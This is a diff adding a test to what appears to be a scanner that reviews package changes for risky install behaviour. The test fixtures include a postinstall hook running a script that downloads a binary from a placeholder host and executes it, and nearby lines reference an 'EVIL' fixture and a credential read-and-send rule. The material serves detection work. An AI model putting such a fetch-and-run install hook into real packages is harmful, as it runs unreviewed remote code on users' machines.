@@ -48,6 +48,18 @@ describe("what the base had already", () => {
     );
   });
 
+  it("is not the change's when the version also names where the download is kept", async () => {
+    const fetching = (version: string, kept: string) => ({
+      "package.json": MANIFEST({ postinstall: "sh tools/get.sh" }),
+      "tools/get.sh": `curl -o tools/${kept}/where https://cdn.example.invalid/where/${version}/where && tools/${kept}/where\n`,
+    });
+    const verdict = async (version: string, kept: string) =>
+      (await reviewChange(fetching("2.5.2", "2.5.2"), fetching(version, kept))).verdict;
+    expect((await reviewChange({}, fetching("2.5.2", "2.5.2"))).verdict).not.toBe("clean");
+    expect(await verdict("3.1.7", "3.1.7")).toBe("clean");
+    expect(await verdict("3.1.7", "4.0.0")).not.toBe("clean");
+  });
+
   it("counts again when there is more of it than before", async () => {
     const review = await reviewChange({ "a.js": EVIL }, { "a.js": `${EVIL}\n{${EVIL}}` });
     expect(rulesIn(review)).toContain("credentials/read-and-send");
